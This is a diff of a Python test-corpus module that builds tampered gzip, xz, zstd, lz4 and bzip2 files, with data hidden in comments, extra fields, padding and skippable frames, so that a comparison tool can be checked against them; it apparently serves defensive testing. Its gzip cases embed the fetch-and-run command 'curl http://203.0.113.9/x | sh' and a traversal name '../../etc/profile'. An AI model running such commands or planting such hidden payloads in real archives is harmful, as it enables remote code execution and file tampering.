@@ -5,10 +5,10 @@ from __future__ import annotations
 import bz2
 import gzip as stdlib_gzip
 import struct
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from functools import partial
 
-from banbury.compare.corpus.pairs import Made, Patch, Recipe, attack, harmless
+from banbury.compare.corpus.pairs import Made, Recipe, attack, harmless
 from banbury.compare.corpus.toolchain import within
 from banbury.compare.corpus.trees import text
 from banbury.compare.corpus.writers.packed import gzip, lz4_frame, skippable, xz, zstd
@@ -23,13 +23,26 @@ def _bit(data: bytes = CONTENT) -> bytes:
     return bytes(out)
 
 
+_WRITERS: dict[str, Callable[[bytes], bytes]] = {
+    "gzip": gzip,
+    "xz": xz,
+    "zstd": zstd,
+    "lz4": lz4_frame,
+    "bzip2": bz2.compress,
+}
+
+
 def _changed(name: str) -> bytes:
-    return {"gzip": gzip, "xz": xz, "zstd": zstd, "lz4": lz4_frame, "bzip2": bz2.compress}[name](_bit())  # type: ignore[operator]
+    return _WRITERS[name](_bit())
 
 
 _LAB = {
-    "gzip": gzip(CONTENT), "xz": xz(CONTENT), "zstd": zstd(CONTENT), "lz4": lz4_frame(CONTENT), "bzip2": bz2.compress(CONTENT),
-}  # fmt: skip
+    "gzip": gzip(CONTENT),
+    "xz": xz(CONTENT),
+    "zstd": zstd(CONTENT),
+    "lz4": lz4_frame(CONTENT),
+    "bzip2": bz2.compress(CONTENT),
+}
 _VENDOR = {
     "gzip": gzip(CONTENT, level=6, mtime=1_700_000_000),
     "xz": xz(CONTENT, preset=1),
@@ -84,44 +97,122 @@ def _same_rows() -> Iterator[tuple[str, str, str, str, bytes]]:
     yield "zstd", "unchecked", "compression", "No checksum of the content.", zstd(CONTENT, check=False)
     yield "zstd", "unsized", "compression", "No size of the content.", zstd(CONTENT, size=False)
     yield "lz4", "level", "compression", "Another level.", lz4_frame(CONTENT, level=12)
-    yield "lz4", "blocks", "compression", "Independent blocks of another size.", lz4_frame(CONTENT, block=5, linked=False)
+    yield (
+        "lz4",
+        "blocks",
+        "compression",
+        "Independent blocks of another size.",
+        lz4_frame(CONTENT, block=5, linked=False),
+    )
     yield "bzip2", "level", "compression", "Blocks of another size.", bz2.compress(CONTENT, 3)
 
 
 def _attack_rows() -> Iterator[tuple[str, str, str, str, Made]]:
     for name, clean in _VENDOR.items():
-        yield name, "bit", "content", "One bit of the content is changed.", _tampered(name, _changed(name), content=True)
-        yield name, "trailing", "trailing", "Bytes stand behind the stream.", _tampered(name, clean + EVIL, good=name == "bzip2")
-        more = {"gzip": gzip, "xz": xz, "zstd": zstd, "lz4": lz4_frame, "bzip2": bz2.compress}[name](EVIL)  # type: ignore[operator]
-        yield name, "second", "extra-member", "A second stream follows: decompressors append its content.", _tampered(name, clean + more, content=True)
-        yield name, "checksum", "checksum", "The content's checksum is wrong.", _tampered(name, _wrong(name), content=True, good=False)
+        yield (
+            name,
+            "bit",
+            "content",
+            "One bit of the content is changed.",
+            _tampered(name, _changed(name), content=True),
+        )
+        yield (
+            name,
+            "trailing",
+            "trailing",
+            "Bytes stand behind the stream.",
+            _tampered(name, clean + EVIL, good=name == "bzip2"),
+        )
+        more = _WRITERS[name](EVIL)
+        yield (
+            name,
+            "second",
+            "extra-member",
+            "A second stream follows: decompressors append its content.",
+            _tampered(name, clean + more, content=True),
+        )
+        yield (
+            name,
+            "checksum",
+            "checksum",
+            "The content's checksum is wrong.",
+            _tampered(name, _wrong(name), content=True, good=False),
+        )
     empty = {"gzip": gzip(b""), "bzip2": bz2.compress(b"")}
-    yield "gzip", "empty-second", "hidden-space", "A second, empty member carries bytes in its header.", _tampered(
-        "gzip", _VENDOR["gzip"] + gzip(b"", comment=EVIL.replace(b"\n", b" ")), content=True
+    yield (
+        "gzip",
+        "empty-second",
+        "hidden-space",
+        "A second, empty member carries bytes in its header.",
+        _tampered("gzip", _VENDOR["gzip"] + gzip(b"", comment=EVIL.replace(b"\n", b" ")), content=True),
     )
-    yield "bzip2", "empty-second", "extra-member", "A second, empty stream follows.", _tampered("bzip2", _VENDOR["bzip2"] + empty["bzip2"], content=True)
-    yield "gzip", "extra", "hidden-space", "An extra field, which decompressors skip.", _tampered(
-        "gzip", gzip(CONTENT, level=6, mtime=1_700_000_000, extra=b"BB" + struct.pack("<H", len(EVIL)) + EVIL)
+    yield (
+        "bzip2",
+        "empty-second",
+        "extra-member",
+        "A second, empty stream follows.",
+        _tampered("bzip2", _VENDOR["bzip2"] + empty["bzip2"], content=True),
     )
-    yield "gzip", "comment", "hidden-space", "A comment, which decompressors skip.", _tampered(
-        "gzip", gzip(CONTENT, level=6, mtime=1_700_000_000, comment=b"curl http://203.0.113.9/x | sh")
+    yield (
+        "gzip",
+        "extra",
+        "hidden-space",
+        "An extra field, which decompressors skip.",
+        _tampered(
+            "gzip", gzip(CONTENT, level=6, mtime=1_700_000_000, extra=b"BB" + struct.pack("<H", len(EVIL)) + EVIL)
+        ),
     )
-    yield "gzip", "name-path", "attribute", "The stored name leads out of the folder (gunzip -N uses it).", _tampered(
-        "gzip", gzip(CONTENT, level=6, mtime=1_700_000_000, name=b"../../etc/profile")
+    yield (
+        "gzip",
+        "comment",
+        "hidden-space",
+        "A comment, which decompressors skip.",
+        _tampered("gzip", gzip(CONTENT, level=6, mtime=1_700_000_000, comment=b"curl http://203.0.113.9/x | sh")),
     )
-    yield "gzip", "length", "checksum", "The trailer states another length.", _tampered("gzip", _sizes_wrong(), content=True, good=False)
+    yield (
+        "gzip",
+        "name-path",
+        "attribute",
+        "The stored name leads out of the folder (gunzip -N uses it).",
+        _tampered("gzip", gzip(CONTENT, level=6, mtime=1_700_000_000, name=b"../../etc/profile")),
+    )
+    yield (
+        "gzip",
+        "length",
+        "checksum",
+        "The trailer states another length.",
+        _tampered("gzip", _sizes_wrong(), content=True, good=False),
+    )
     yield "gzip", "deflate-tail", "hidden-space", "The last byte's unused bits hold something.", _unused_bits()
-    yield "xz", "header-padding", "hidden-space", "A block's header is padded with something.", _tampered(
-        "xz", xz(CONTENT, preset=1, header_fill=b"pay!"), content=True, good=False
+    yield (
+        "xz",
+        "header-padding",
+        "hidden-space",
+        "A block's header is padded with something.",
+        _tampered("xz", xz(CONTENT, preset=1, header_fill=b"pay!"), content=True, good=False),
     )
     yield "xz", "block-padding", "hidden-space", "A block's padding is not zero.", _block_padding()
-    yield "xz", "stream-padding", "hidden-space", "The padding behind the stream is not zero.", _tampered(
-        "xz", xz(CONTENT, preset=1, padding=b"\0\0\0\0evil"), content=True, good=False
+    yield (
+        "xz",
+        "stream-padding",
+        "hidden-space",
+        "The padding behind the stream is not zero.",
+        _tampered("xz", xz(CONTENT, preset=1, padding=b"\0\0\0\0evil"), content=True, good=False),
     )
     for name in ("zstd", "lz4"):
-        yield name, "skippable", "hidden-space", "A frame that decompressors skip.", _tampered(name, _VENDOR[name] + skippable(EVIL), content=True)
-        yield name, "skippable-first", "hidden-space", "A frame that decompressors skip stands first.", _tampered(
-            name, skippable(EVIL, 3) + _VENDOR[name], content=True
+        yield (
+            name,
+            "skippable",
+            "hidden-space",
+            "A frame that decompressors skip.",
+            _tampered(name, _VENDOR[name] + skippable(EVIL), content=True),
+        )
+        yield (
+            name,
+            "skippable-first",
+            "hidden-space",
+            "A frame that decompressors skip stands first.",
+            _tampered(name, skippable(EVIL, 3) + _VENDOR[name], content=True),
         )
 
 
@@ -146,14 +237,16 @@ def _unused_bits() -> Made:
             other = clean[:-9] + bytes([last ^ bit]) + clean[-8:]
             try:
                 if zlib.decompress(other, 31) == content:
-                    return Made(a=gzip(content), b=other, base=clean, touched=((len(clean) - 9, len(clean) - 8),), changes=_SAME)
+                    return Made(
+                        a=gzip(content), b=other, base=clean, touched=((len(clean) - 9, len(clean) - 8),), changes=_SAME
+                    )
             except zlib.error:
                 continue
     raise AssertionError("deflate always fills its last byte")
 
 
 _COMMANDS = (
-    ("gzip", "tool", "gzip", "-5"),
+    ("gzip", "tool", "gzip", "-n", "-5"),
     ("xz", "tool-threads", "xz", "-T2", "--block-size=20000", "-3"),
     ("zstd", "tool-threads", "zstd", "-q", "-T2", "-12"),
     ("lz4", "tool", "lz4", "-q", "-9", "-BD"),
@@ -167,9 +260,13 @@ def recipes() -> Iterator[Recipe]:
     for name, key, *command in _COMMANDS:
         last = ["content", "content.lz4"] if name == "lz4" else ["content"]
         yield harmless(
-            f"{name}-same-{key}", name, "compression", "Compressed by the format's own tool.",
-            partial(_command, name, *command, *last), pure=False,
-        )  # fmt: skip
+            f"{name}-same-{key}",
+            name,
+            "compression",
+            "Compressed by the format's own tool.",
+            partial(_command, name, *command, *last),
+            pure=False,
+        )
     for name, key, group, note, made in _attack_rows():
         yield attack(f"{name}-{key}", name, group, note, partial(_given, made))
 
